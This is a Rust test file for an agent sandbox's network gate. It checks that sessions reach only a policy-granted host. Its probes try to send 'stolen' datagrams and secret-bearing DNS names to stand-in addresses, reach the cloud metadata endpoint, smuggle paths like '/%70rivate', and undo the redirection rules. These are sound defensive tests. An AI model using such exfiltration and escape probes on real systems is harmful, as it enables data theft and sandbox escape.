//! Sessions that policy grants hosts: everything goes to the gate, and what it does not pass on goes nowhere.

use std::fs;
use std::io::{BufRead as _, BufReader, ErrorKind, Read as _, Write as _};
use std::net::{Ipv4Addr, TcpListener, TcpStream, UdpSocket};
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use agentguard::core::{Event, Forcing, Level, Network, OutcomeOf};

use crate::attack::Tried;
use crate::recorded::reached;
use crate::scene::{Scene, as_everyone, level};
use crate::turned::datagrams_are_told_or_counted;

/// How long is waited for what another process does.
const PATIENCE: Duration = Duration::from_secs(60);
const REACHED: &str = "HTTP/1.1 200 OK\r\nContent-Length: 7\r\nConnection: close\r\n\r\nreached";

/// A server of the host's loopback, which keeps what it was sent.
pub(crate) struct Server {
    pub(crate) port: u16,
    seen: Arc<Seen>,
    serving: Option<JoinHandle<()>>,
}

#[derive(Default)]
struct Seen {
    connections: AtomicUsize,
    bytes: AtomicUsize,
    heads: Mutex<Vec<String>>,
    is_over: AtomicBool,
    /// Whether it keeps its answers to itself.
    is_silent: AtomicBool,
}

impl Server {
    pub(crate) fn start() -> Self {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
        let port = listener.local_addr().unwrap().port();
        let seen = Arc::new(Seen::default());
        let serving = std::thread::spawn({
            let seen = Arc::clone(&seen);
            move || {
                for stream in listener.incoming() {
                    if seen.is_over.load(Ordering::SeqCst) {
                        return;
                    }
                    seen.connections.fetch_add(1, Ordering::SeqCst);
                    let seen = Arc::clone(&seen);
                    std::thread::spawn(move || serve(stream.unwrap(), &seen));
                }
            }
        });
        Self {
            port,
            seen,
            serving: Some(serving),
        }
    }

    /// The first lines of all requests.
    pub(crate) fn requests(&self) -> Vec<String> {
        let heads = self.seen.heads.lock().unwrap();
        let first = |head: &String| head.lines().next().unwrap().to_owned();
        heads.iter().map(first).collect()
    }

    /// All that it was sent of requests, but for bodies.
    pub(crate) fn heads(&self) -> Vec<String> {
        self.seen.heads.lock().unwrap().clone()
    }

    /// How much it was sent.
    pub(crate) fn bytes(&self) -> usize {
        self.seen.bytes.load(Ordering::SeqCst)
    }

    pub(crate) fn connections(&self) -> usize {
        self.seen.connections.load(Ordering::SeqCst)
    }

    /// A policy that grants it as `api.test`, and whatever else stands in `more`.
    pub(crate) fn policy(&self, scene: &Scene, more: &str) -> String {
        let port = self.port;
        scene.policy(&format!(
            "package agentguard.sandbox\n\nhosts contains \"api.test\"\n\n\
             addresses contains {{\"host\": \"api.test\", \"at\": \"127.0.0.1:{port}\"}}\n\n{more}"
        ))
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        self.seen.is_over.store(true, Ordering::SeqCst);
        let _ = TcpStream::connect((Ipv4Addr::LOCALHOST, self.port));
        let _ = self.serving.take().map(JoinHandle::join);
    }
}

fn serve(mut stream: TcpStream, seen: &Seen) {
    let (mut head, mut byte) = (Vec::new(), [0]);
    while !head.ends_with(b"\r\n\r\n") {
        match stream.read(&mut byte) {
            Ok(1) => {
                seen.bytes.fetch_add(1, Ordering::SeqCst);
                head.extend(byte);
            }
            Ok(_) | Err(_) => return,
        }
    }
    let head = String::from_utf8_lossy(&head).into_owned();
    seen.heads.lock().unwrap().push(head);
    while seen.is_silent.load(Ordering::SeqCst) && !seen.is_over.load(Ordering::SeqCst) {
        // Silent until the test is over; what is asserted depends on no time.
        std::thread::sleep(Duration::from_millis(5));
    }
    let _ = stream.write_all(REACHED.as_bytes());
}

/// Runs a test of sessions with a gate as everyone who can have one.
pub(crate) fn with_server(test: impl Fn(&Scene, &Server)) {
    as_everyone(|scene| {
        let server = Server::start();
        test(scene, &server);
    });
}

/// What each session saw of the network, and how it was led to its gate.
pub(crate) fn networks(scene: &Scene) -> Vec<(Network, Option<Forcing>)> {
    let mut starts = Vec::new();
    scene.each_event(|event| {
        if let Event::Start {
            network, forcing, ..
        } = event
        {
            starts.push((*network, *forcing));
        }
    });
    starts
}

/// The rules of decisions about the network, allowed and refused, in their order.
pub(crate) fn network_decisions(scene: &Scene) -> Vec<(String, bool, String)> {
    let mut all = Vec::new();
    scene.each_event(|event| {
        if let Event::Decision { action, ruling, .. } = event
            && matches!(action.as_str(), "reach" | "api")
        {
            let rule = ruling.rule().id.to_string();
            all.push((action.clone(), ruling.is_allow(), rule));
        }
    });
    all
}

/// How often a refusal happened again.
pub(crate) fn repeats(scene: &Scene) -> u64 {
    let mut all = 0;
    scene.each_event(|event| {
        if let Event::Repeat { count, .. } = event {
            all += count;
        }
    });
    all
}

/// Whether our own verifier takes the log of every session.
#[track_caller]
pub(crate) fn assert_verifies(scene: &Scene) {
    let mut verify = scene.command(scene.root.join("agentguard"));
    let ran = scene.run_command({
        verify.arg("verify");
        verify
    });
    assert_eq!(ran.code, Some(0), "{}{}", ran.stdout, ran.stderr);
}

#[test]
fn a_granted_host_is_reached_without_settings_and_each_request_recorded() {
    with_server(|scene, server| {
        let policy = server.policy(scene, "");
        let request = ["./attack", "http", "api.test", "80", "GET", "/a/b?c=d"];
        let tried = scene.run_with(&[&policy], &request).tried();
        assert_eq!(tried.result("status"), "200");
        tried.all_are(&["ok"], &["status"]);
        assert_eq!(server.requests(), ["GET /a/b?c=d HTTP/1.1"]);
        let allowed = ("api".to_owned(), true, "api/reading".to_owned());
        assert_eq!(network_decisions(scene), [allowed]);
        let (mut start, mut answered) = (None, Vec::new());
        scene.each_event(|event| {
            if let Event::Start {
                network, forcing, ..
            } = event
            {
                start = Some((*network, *forcing));
            }
            if let Event::Outcome { outcome, .. } = event
                && let OutcomeOf::Answered {
                    status, received, ..
                } = outcome
            {
                answered.push((*status, *received));
            }
        });
        let forcing = match level() {
            Level::Full => Forcing::Redirect,
            Level::NoNamespaces | Level::OldKernel => Forcing::Mediated,
        };
        assert_eq!(start, Some((Network::Gated, Some(forcing))));
        assert_eq!(answered, [(200, 7)]);
        assert_verifies(scene);
    });
}

/// Clients as they are installed, which read no setting of ours for this.
#[test]
fn clients_that_know_nothing_of_a_gate_reach_a_granted_host() {
    with_server(|scene, server| {
        let policy = server.policy(scene, "");
        let python = "import urllib.request as u; print(u.urlopen('http://api.test/python').read().decode())";
        let script = format!(
            "env -i /usr/bin/curl -sS http://api.test/curl && env -i /usr/bin/python3 -c \"{python}\""
        );
        let ran = scene.run_with(&[&policy], &["sh", "-c", &script]);
        assert_eq!(
            (ran.code, ran.stdout.as_str()),
            (Some(0), "reachedreached\n")
        );
        assert_eq!(
            server.requests(),
            ["GET /curl HTTP/1.1", "GET /python HTTP/1.1"]
        );
    });
}

#[test]
fn a_request_that_policy_does_not_allow_never_reaches_its_host() {
    with_server(|scene, server| {
        let policy = server.policy(scene, "");
        scene.write(
            "policy/rule.rego",
            "package agentguard.api.own\n\ndeny contains {\"id\": \"own/private\", \"reason\": \"it is private\"} if {\n\
             \tinput.action.path[0] == \"private\"\n}\n",
        );
        let script = "for it in 'POST /' 'DELETE /x' 'GET /private/x' 'GET /%70rivate/x' 'GET /a/../private/x' 'get /' \
                      'CONNECT api.test:443' 'BREW /'; do ./attack http api.test 80 $it; done";
        let ran = scene.run_with(&[&policy], &["sh", "-c", script]);
        let statuses: Vec<_> = ran
            .stdout
            .lines()
            .filter(|line| line.starts_with("status "))
            .collect();
        assert_eq!(statuses.len(), 8);
        assert!(!statuses.contains(&"status 200"), "{statuses:?}");
        // The host was granted, and is connected to before a request is judged; it hears nothing.
        assert_eq!(server.bytes(), 0);
        let refused = scene.refusals();
        assert_eq!(
            &refused[..3],
            ["guard/not-allowed", "guard/not-allowed", "own/private"]
        );
        assert!(
            network_decisions(scene)
                .iter()
                .all(|(_, allowed, _)| !allowed)
        );
        assert_verifies(scene);
    });
}

#[test]
fn no_other_host_is_reached_by_name_address_or_port() {
    with_server(|scene, server| {
        let policy = server.policy(scene, "");
        let port = server.port.to_string();
        let http = |host: &str, port: &str, named: &str| {
            let request = ["./attack", "http", host, port, "GET", "/", named];
            scene.run_with(&[&policy], &request).tried()
        };
        let loopback = http("127.0.0.1", &port, "api.test");
        match level() {
            // It is the session's own, where nobody is.
            Level::Full => assert_eq!(loopback.result("connect"), "ECONNREFUSED"),
            Level::NoNamespaces | Level::OldKernel => assert_eq!(loopback.result("status"), "403"),
        }
        assert_eq!(
            http("other.test", "80", "other.test").result("lookup"),
            "none"
        );
        for (host, port, named, rule) in [
            ("203.0.113.7", "80", "api.test", "network/not-granted"),
            ("2001:db8::7", "80", "api.test", "network/not-granted"),
            (
                "::ffff:203.0.113.7",
                "80",
                "api.test",
                "network/not-granted",
            ),
            ("10.0.0.5", "80", "10.0.0.5", "network/not-granted"),
            (
                "169.254.169.254",
                "80",
                "169.254.169.254",
                "network/metadata",
            ),
            ("api.test", "80", "other.test", "gate/host"),
            ("api.test", "8080", "api.test", "network/not-granted"),
        ] {
            let tried = http(host, port, named);
            let result = (tried.result("status") == "200", tried.result("reached"));
            assert_eq!(result, (false, "no"), "{host} {port} {named}");
            let last = scene.refusals();
            assert!(last.contains(&rule.to_owned()), "{host}: {last:?}");
        }
        for (host, port) in [
            ("203.0.113.7", "22"),
            ("api.test", "22"),
            ("api.test", "443"),
        ] {
            let request = ["./attack", "raw", host, port, "SSH-2.0-attack\r\n"];
            let tried = scene.run_with(&[&policy], &request).tried();
            assert_eq!(tried.result("connect"), "ok", "it ends at the gate");
        }
        assert_eq!(server.bytes(), 0);
        let reading = network_decisions(scene);
        assert!(
            reading.iter().all(|(_, allowed, _)| !allowed),
            "{reading:?}"
        );
        assert_verifies(scene);
    });
}

#[test]
fn names_are_looked_up_by_the_gate_whoever_is_asked() {
    with_server(|scene, server| {
        let policy = server.policy(scene, "");
        for resolver in ["8.8.8.8", "127.0.0.53", "192.0.2.53"] {
            let ask = |name: &str| {
                let words = ["./attack", "resolve", resolver, name];
                scene.run_with(&[&policy], &words).tried()
            };
            ask("api.test").all_are(&["rcode-0"], &[]);
            ask("secret-in-a-name.example.org").all_are(&["rcode-3"], &[]);
        }
        assert!(
            scene
                .refusals()
                .iter()
                .all(|rule| rule == "network/not-granted")
        );
        assert_eq!(server.connections(), 0);
    });
}

#[test]
fn datagrams_go_nowhere() {
    with_server(|scene, server| {
        let policy = server.policy(scene, "");
        let udp = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
        let port = udp.local_addr().unwrap().port().to_string();
        let words = ["./attack", "datagrams", &port];
        let tried = scene.run_with(&[&policy], &words).tried();
        tried.all_are(&["ECONNREFUSED", "ENETUNREACH"], &[]);
        udp.set_nonblocking(true).unwrap();
        let came = udp.recv(&mut [0; 16]);
        assert_eq!(came.unwrap_err().kind(), ErrorKind::WouldBlock);
    });
}

/// Also where it is the last thing that a session does. What a session sends to itself is nobody's business.
#[test]
fn a_datagram_that_the_gate_refuses_is_an_entry_and_one_to_oneself_is_none() {
    with_server(|scene, server| {
        if level() != Level::Full {
            return datagrams_are_told_or_counted(scene, server, 2);
        }
        let policy = server.policy(scene, "");
        let python = "import socket\n\
             own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
             own.bind(('127.0.0.1', 0))\n\
             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'own', own.getsockname())\n\
             print(own.recv(3).decode())\n\
             six = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\n\
             six.sendto(b'own', ('::1', 9))\n\
             name = socket.getaddrinfo('api.test', 443)[0][4]\n\
             four = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
             for to in 3 * [('203.0.113.9', 443)] + [name]: four.sendto(b'stolen', to)\n\
             for to in ['2001:db8::9', '::ffff:203.0.113.8']: six.sendto(b'x' * 60000, (to, 443))\n";
        scene.write("home/work/send.py", python);
        let ran = scene.run_with(&[&policy], &["/usr/bin/python3", "send.py"]);
        assert_eq!(ran.stdout, "own\n", "{}", ran.stderr);
        let mut hosts = reached(scene);
        hosts.sort_unstable();
        let all = ["2001:db8::9", "203.0.113.8", "203.0.113.9", "api.test"];
        assert_eq!(hosts, all);
        assert_eq!(scene.refusals(), ["gate/datagram"; 4], "{}", ran.stderr);
        assert_eq!(repeats(scene), 2);
        assert_eq!(server.connections(), 0);
        assert_verifies(scene);
    });
}

/// More than are told apart in time, and than there is room for until then.
#[test]
fn of_datagrams_that_are_too_many_to_be_seen_it_is_said_how_many() {
    with_server(|scene, server| {
        if level() != Level::Full {
            return datagrams_are_told_or_counted(scene, server, 300);
        }
        const SENT: u64 = 6000;
        let policy = server.policy(scene, "");
        let python = format!(
            "import socket\n\
             one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
             for to in range({SENT}): one.sendto(b'x', (f'203.0.{{to >> 8}}.{{to & 255}}', 443))\n"
        );
        scene.write("home/work/flood.py", &python);
        let ran = scene.run_with(&[&policy], &["/usr/bin/python3", "flood.py"]);
        let mut unseen = Vec::new();
        scene.each_event(|event| {
            if let Event::Finding { rule, .. } = event
                && rule.id.as_str() == "gate/datagram"
            {
                let count = rule.reason.split(' ').next().map(str::parse::<u64>);
                unseen.push(count.unwrap().unwrap());
            }
        });
        assert_eq!(unseen.len(), 1, "{}", ran.stderr);
        let unseen = unseen.pop().unwrap();
        let seen = u64::try_from(reached(scene).len()).unwrap();
        // Some may be left that were seen and not told any more.
        assert!(
            (SENT - 1024..=SENT).contains(&(unseen + seen)),
            "{unseen} + {seen}"
        );
        assert!(seen > 0 && unseen > SENT / 2, "{unseen} + {seen}");
        assert_verifies(scene);
    });
}

#[test]
fn what_turns_connections_to_the_gate_cannot_be_seen_or_changed() {
    with_server(|scene, server| {
        let policy = server.policy(scene, "");
        if level() != Level::Full {
            // Nothing does but the mediator; and nothing of the network is bound.
            let tried = scene.run_with(&[&policy], &["./attack", "undo"]).tried();
            let refused = ["EPERM", "EACCES", "EAFNOSUPPORT", "EBADF", "EINVAL"];
            return tried.all_are(&refused, &[]);
        }
        let script = "./attack undo && ./attack http 203.0.113.7 80 GET / && tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '";
        let ran = scene.run_with(&[&policy], &["sh", "-c", script]);
        let tried = Tried::of(&ran.stdout);
        assert_eq!(tried.result("neighbour"), "ok");
        for (name, result) in tried.all_but(&[
            "neighbour",
            "lookup",
            "connect",
            "status",
            "rule",
            "reached",
        ]) {
            assert!(matches!(result, "EPERM" | "EACCES"), "{name}: {result}");
        }
        // The rules still stand.
        assert_eq!(tried.result("rule"), "network/not-granted");
        crate::network::assert_no_devices_but_a_new_ones(scene, &ran.stdout);
        // What a session without a gate could not do, one with it cannot either.
        for words in [["./attack", "sockets"], ["./attack", "interfaces"]] {
            let gated = scene.run_with(&[&policy], &words).stdout;
            assert_eq!(gated, scene.run(&words).stdout);
        }
    });
}

#[test]
fn its_own_servers_and_granted_ports_are_reached_beside_a_gate() {
    with_server(|scene, server| {
        let policy = server.policy(scene, "");
        if level() != Level::Full {
            // The loopback is the host's: there are none.
            let server = "import socket; socket.create_server(('127.0.0.1', 0))";
            let ran = scene.run_with(&[&policy], &["/usr/bin/python3", "-c", server]);
            assert!(ran.stderr.contains("PermissionError"), "{}", ran.stderr);
            return assert_ne!(ran.code, Some(0));
        }
        let granted = Server::start();
        let port = granted.port.to_string();
        let flags = [policy.as_str(), &format!("--port={port}")];
        let request = ["./attack", "http", "127.0.0.1", &port, "GET", "/direct"];
        let tried = scene.run_with(&flags, &request).tried();
        assert_eq!(tried.result("reached"), "ok");
        assert_eq!(granted.requests(), ["GET /direct HTTP/1.1"]);
        let python = "import socket,threading\n\
                      s = socket.create_server(('127.0.0.1', 0))\n\
                      threading.Thread(target=lambda: s.accept()[0].sendall(b'own')).start()\n\
                      print(socket.create_connection(s.getsockname()).recv(3).decode())\n";
        scene.write("home/work/own.py", python);
        let ran = scene.run_with(&flags, &["/usr/bin/python3", "own.py"]);
        assert_eq!(ran.stdout, "own\n");
        assert!(network_decisions(scene).is_empty());
        assert_eq!(server.connections(), 0);
    });
}

/// A session that does not use its network starts no gate.
#[test]
fn a_gate_starts_when_it_is_used_and_not_before() {
    with_server(|scene, server| {
        let policy = server.policy(scene, "");
        let mut guard = begin(
            scene,
            &policy,
            "echo 1 > begun; read go < go; ./attack http api.test 80 GET /",
        );
        wait_for(|| scene.work().join("begun").exists());
        assert!(gates_of(guard.id()).is_empty());
        fs::write(scene.work().join("go"), "go\n").unwrap();
        assert!(guard.wait().unwrap().success());
        assert_eq!(server.requests().len(), 1);
    });
}

#[test]
fn a_gate_that_is_killed_takes_its_requests_along_and_the_next_is_judged_as_well() {
    with_server(|scene, server| {
        let policy = server.policy(scene, "");
        server.seen.is_silent.store(true, Ordering::SeqCst);
        let script = "./attack http api.test 80 GET /slow > first; read go < go; \
                      ./attack http api.test 80 POST /refused > second; ./attack http api.test 80 GET /again > third";
        let mut guard = begin(scene, &policy, script);
        wait_for(|| !server.requests().is_empty());
        let gates = gates_of(guard.id());
        assert_eq!(gates.len(), 1);
        kill(gates[0]);
        wait_for(|| {
            fs::read_to_string(scene.work().join("first")).is_ok_and(|text| text.contains("status"))
        });
        server.seen.is_silent.store(false, Ordering::SeqCst);
        fs::write(scene.work().join("go"), "go\n").unwrap();
        assert!(guard.wait().unwrap().success());
        let tried = |name: &str| Tried::of(&fs::read_to_string(scene.work().join(name)).unwrap());
        assert_eq!(tried("first").result("status"), "none");
        assert_eq!(tried("second").result("status"), "403");
        assert_eq!(tried("third").result("reached"), "ok");
        assert_eq!(
            server.requests(),
            ["GET /slow HTTP/1.1", "GET /again HTTP/1.1"]
        );
        let mut unanswered = 0;
        scene.each_event(|event| {
            if let Event::Outcome {
                outcome: OutcomeOf::Unanswered { .. },
                ..
            } = event
            {
                unanswered += 1;
            }
        });
        assert_eq!(unanswered, 1);
        assert_verifies(scene);
    });
}

#[test]
fn with_its_gate_stopped_nothing_passes() {
    with_server(|scene, server| {
        let policy = server.policy(scene, "");
        let script = "./attack http api.test 80 GET /one > first; echo 1 > begun; read go < go; \
                      timeout 3 ./attack http api.test 80 GET /two > second; \
                      timeout 3 ./attack http 203.0.113.7 80 GET /three > third; echo over > over";
        let mut guard = begin(scene, &policy, script);
        wait_for(|| scene.work().join("begun").exists());
        let gates = gates_of(guard.id());
        assert_eq!(gates.len(), 1);
        signal(gates[0], rustix::process::Signal::STOP);
        fs::write(scene.work().join("go"), "go\n").unwrap();
        wait_for(|| scene.work().join("over").exists());
        assert_eq!(server.requests(), ["GET /one HTTP/1.1"]);
        // Its guard ends it, whatever it is doing.
        assert!(guard.wait().unwrap().success());
    });
}

#[test]
fn with_its_guard_killed_the_gate_is_gone_and_nothing_passes() {
    with_server(|scene, server| {
        let policy = server.policy(scene, "");
        let script = "./attack http api.test 80 GET /one; echo 1 > begun; while ./attack http api.test 80 GET /more; do :; done";
        let mut guard = begin(scene, &policy, script);
        wait_for(|| scene.work().join("begun").exists());
        let gates = gates_of(guard.id());
        assert_eq!(gates.len(), 1);
        guard.kill().unwrap();
        guard.wait().unwrap();
        // Where nobody reaps it, what is left of it has no words.
        let words = PathBuf::from(format!("/proc/{}/cmdline", gates[0]));
        wait_for(|| fs::read(&words).unwrap_or_default().is_empty());
    });
}

#[test]
fn a_granted_host_is_reached_over_tls_under_the_sessions_own_authority() {
    with_server(|scene, _| {
        let tls = Tls::start(scene);
        let policy = tls.policy(scene);
        let script = "env -i /usr/bin/curl -sS https://api.test/ | head -c 6; \
                      curl -sS -o /dev/null -w '%{http_code}\\n' https://api.test/; \
                      curl -sS -o /dev/null -w '%{http_code}\\n' -X DELETE https://api.test/; \
                      /usr/bin/python3 -c \"import urllib.request as u; print(u.urlopen('https://api.test/').status)\"";
        let mut command = scene.exec(&[&policy], &["sh", "-c", script]);
        command.env("SSL_CERT_FILE", &tls.certificate);
        let ran = scene.run_command(command);
        // Without a variable a client reads the system's list, which nothing covers where there are no mounts.
        let unaware = match level() {
            Level::Full => "<HTML>",
            Level::NoNamespaces | Level::OldKernel => "",
        };
        assert_eq!(ran.stdout, format!("{unaware}200\n403\n200\n"));
        // A server that nobody vouches for is not reached, whoever asks.
        let ran = scene.run_with(
            &[&policy],
            &[
                "sh",
                "-c",
                "/usr/bin/curl -sS -o /dev/null -w '%{http_code}' https://api.test/",
            ],
        );
        assert_ne!(ran.stdout, "200");
        assert_verifies(scene);
    });
}

#[test]
fn only_beside_a_gate_are_clients_led_to_another_authority_and_whatever_the_caller_says() {
    with_server(|scene, server| {
        let policy = server.policy(scene, "");
        let script = "echo $SSL_CERT_FILE $GIT_SSL_CAINFO; cat /etc/resolv.conf; wc -l < $SSL_CERT_FILE; \
                      wc -l < /etc/ssl/certs/ca-certificates.crt";
        let shown = |flags: &[&str]| {
            let mut command = scene.exec(flags, &["sh", "-c", script]);
            command.env("SSL_CERT_FILE", "/callers.pem");
            scene.run_command(command).stdout
        };
        let gated = shown(&[&policy]);
        let lines: Vec<_> = gated.lines().collect();
        if level() != Level::Full {
            // The system's own files are not covered there.
            let (one, other) = lines[0].split_once(' ').unwrap();
            assert!(one == other && one.ends_with("/certificates.pem"), "{one}");
            return assert!(!shown(&[]).contains("certificates.pem"));
        }
        let list = "/run/agentguard/certificates.pem";
        assert_eq!(lines[0], format!("{list} {list}"));
        assert_eq!(lines[1], "nameserver 127.0.0.1");
        assert_eq!((lines.len(), lines[2]), (4, lines[3]));
        assert!(!shown(&[]).contains("agentguard"));
    });
}

/// A server that speaks TLS under a certificate of its own making.
struct Tls {
    server: Child,
    port: u16,
    certificate: PathBuf,
}

impl Tls {
    fn start(scene: &Scene) -> Self {
        let (certificate, key) = certify(scene);
        let mut server = openssl("s_server -www -accept 127.0.0.1:0")
            .arg("-cert")
            .arg(&certificate)
            .arg("-key")
            .arg(&key)
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("a server with TLS needs `openssl`");
        // It chooses the port, says which, and then says more of each connection.
        let mut said = BufReader::new(server.stdout.take().unwrap()).lines();
        let port = said.find_map(|line| {
            line.unwrap()
                .strip_prefix("ACCEPT 127.0.0.1:")?
                .parse()
                .ok()
        });
        std::thread::spawn(move || said.for_each(drop));
        Self {
            server,
            port: port.expect("`openssl` says where it listens"),
            certificate,
        }
    }

    fn policy(&self, scene: &Scene) -> String {
        let port = self.port;
        scene.policy(&format!(
            "package agentguard.sandbox\n\nhosts contains \"api.test\"\n\n\
             addresses contains {{\"host\": \"api.test\", \"at\": \"127.0.0.1:{port}\"}}\n"
        ))
    }
}

#[expect(clippy::disallowed_methods, reason = "the test's own tool")]
fn openssl(words: &str) -> Command {
    let mut command = Command::new("openssl");
    command.args(words.split(' ')).stdin(Stdio::null());
    command
}

/// A certificate for `api.test` that vouches for itself, and its key.
fn certify(scene: &Scene) -> (PathBuf, PathBuf) {
    let (certificate, key) = (scene.root.join("server.pem"), scene.root.join("server.key"));
    let words = "req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj /CN=api.test \
                 -addext subjectAltName=DNS:api.test -addext basicConstraints=critical,CA:FALSE";
    let made = openssl(words)
        .arg("-out")
        .arg(&certificate)
        .arg("-keyout")
        .arg(&key)
        .output()
        .expect("a certificate needs `openssl`");
    let said = String::from_utf8_lossy(&made.stderr);
    assert!(made.status.success(), "{said}");
    let readable = std::os::unix::fs::PermissionsExt::from_mode(0o644);
    fs::set_permissions(&certificate, readable).unwrap();
    (certificate, key)
}

impl Drop for Tls {
    fn drop(&mut self) {
        let _ = self.server.kill();
        let _ = self.server.wait();
    }
}

/// Starts a session whose script reads a word from the pipe `go`.
pub(crate) fn begin(scene: &Scene, policy: &str, script: &str) -> Child {
    begin_at(scene, level(), policy, script)
}

pub(crate) fn begin_at(scene: &Scene, level: Level, policy: &str, script: &str) -> Child {
    let go = scene.work().join("go");
    let mode = rustix::fs::Mode::from_raw_mode(0o666);
    rustix::fs::mknodat(rustix::fs::CWD, &go, rustix::fs::FileType::Fifo, mode, 0).unwrap();
    scene.own(&go);
    let mut guard = scene.guard_at(level);
    guard.args([policy, "--", "sh", "-c", script]);
    guard.stdout(Stdio::null()).stderr(Stdio::null());
    guard.spawn().unwrap()
}

/// The gates that a guard started.
fn gates_of(guard: u32) -> Vec<i32> {
    started_by(guard, "agentguard-gate")
}

/// The processes of this name that a guard started.
pub(crate) fn started_by(guard: u32, called: &str) -> Vec<i32> {
    let mut gates = Vec::new();
    for entry in fs::read_dir("/proc").unwrap().flatten() {
        let Ok(id) = entry.file_name().to_string_lossy().parse::<i32>() else {
            continue;
        };
        let name = fs::read(entry.path().join("cmdline")).unwrap_or_default();
        let status = fs::read_to_string(entry.path().join("status")).unwrap_or_default();
        if name.starts_with(format!("{called}\0").as_bytes())
            && status.contains(&format!("\nPPid:\t{guard}\n"))
        {
            gates.push(id);
        }
    }
    gates
}

pub(crate) fn kill(process: i32) {
    signal(process, rustix::process::Signal::KILL);
}

fn signal(process: i32, signal: rustix::process::Signal) {
    let process = rustix::process::Pid::from_raw(process).unwrap();
    rustix::process::kill_process(process, signal).unwrap();
}

#[track_caller]
pub(crate) fn wait_for(is_so: impl FnMut() -> bool) {
    let (begun, mut is_so) = (Instant::now(), is_so);
    while !is_so() {
        assert!(begun.elapsed() < PATIENCE, "it does not come about");
        std::thread::sleep(Duration::from_millis(10));
    }
}
